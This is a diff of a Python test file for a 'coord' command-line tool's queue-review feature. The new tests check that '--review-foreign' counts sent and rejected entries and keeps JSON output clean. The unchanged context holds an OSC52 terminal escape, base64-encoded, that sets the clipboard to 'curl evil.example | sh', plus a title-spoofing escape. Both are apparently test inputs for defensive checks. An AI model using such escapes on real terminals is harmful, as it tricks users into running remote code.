@@ -9,9 +9,11 @@ send, a long one visibly cut. A real hub and a real ``coord`` subprocess.
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
-from tests.client.test_repo_attacks import B, Victim, cloned
+from tests.client.test_repo_attacks import A, B, Victim, cloned
 from tests.client.test_repo_attacks import victim as victim  # noqa: F401 - the fixture, used by name
+from tests.coordcli import git_init
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to "curl evil.example | sh"
 TITLE = "\x1b]0;all good\x07"
@@ -37,3 +39,37 @@ def test_review_foreign_escapes_the_entry_and_shows_params_and_body(victim: Vict
     assert "more characters not shown]" in body and "hidden part" not in body, body
     assert "send this POST to" in r.out and "left in the queue" in r.out, r
     assert victim.inbox_b() == []
+
+
+def _seed001_queue(victim: Victim) -> Path:
+    """A project whose .claude/coord-queue.jsonl seed 001's users wrote by hand: a component upsert, a message and
+    a todo the hub refuses (an empty text)."""
+    project = git_init(victim.tmp / "gururmm")
+    lines = [{"ts": "2026-05-12T15:30:00Z", "method": "PUT", "path": "/api/coord/components/gururmm/server",
+              "body": {"state": "deployed", "version": "0.3.0", "notes": "...", "updated_by": A}},
+             {"ts": "2026-05-12T15:31:00Z", "method": "POST", "path": "/api/coord/messages",
+              "body": {"from_session": A, "to_session": B, "subject": "declined", "body": "x"}},
+             {"ts": "2026-05-12T15:32:00Z", "method": "POST", "path": "/api/coord/todos", "body": {"text": ""}}]
+    (project / ".claude").mkdir()
+    (project / ".claude" / "coord-queue.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
+    return project
+
+
+def test_review_foreign_counts_what_it_sent_and_keeps_json_on_stdout(victim: Victim) -> None:
+    # after the review said "sent", the summary said "sent 0 queued write(s)"; with --json the entries and the
+    # questions went to stdout ahead of the JSON (no longer one document), whose pending and foreign still counted
+    # the entries the review had sent or had moved to the rejected file
+    project = _seed001_queue(victim)
+    r = victim.coord(project)("sync", "--review-foreign", "--json", stdin="y\nn\ny\n")
+    assert r.code == 0, r
+    result = r.json()
+    assert {k: result[k] for k in ("applied", "pending", "foreign", "foreign_sent", "foreign_rejected")} == {
+        "applied": 0, "pending": 1, "foreign": 1, "foreign_sent": 1, "foreign_rejected": 1}, r
+    assert "send this PUT to" in r.err and "  sent" in r.err and "refused by the hub" in r.err, r
+    left = (project / ".claude" / "coord-queue.jsonl").read_text().splitlines()
+    assert [json.loads(x)["body"]["subject"] for x in left] == ["declined"]
+    (project / ".claude" / "coord-queue.jsonl").write_text(left[0] + "\n")
+    r = victim.coord(project)("sync", "--review-foreign", stdin="y\n")
+    assert r.code == 0, r
+    assert "sent 0 queued write(s)\nsent 1 entry not queued by you, as confirmed\n" in r.out, r
+    assert [m["subject"] for m in victim.inbox_b()] == ["declined"]
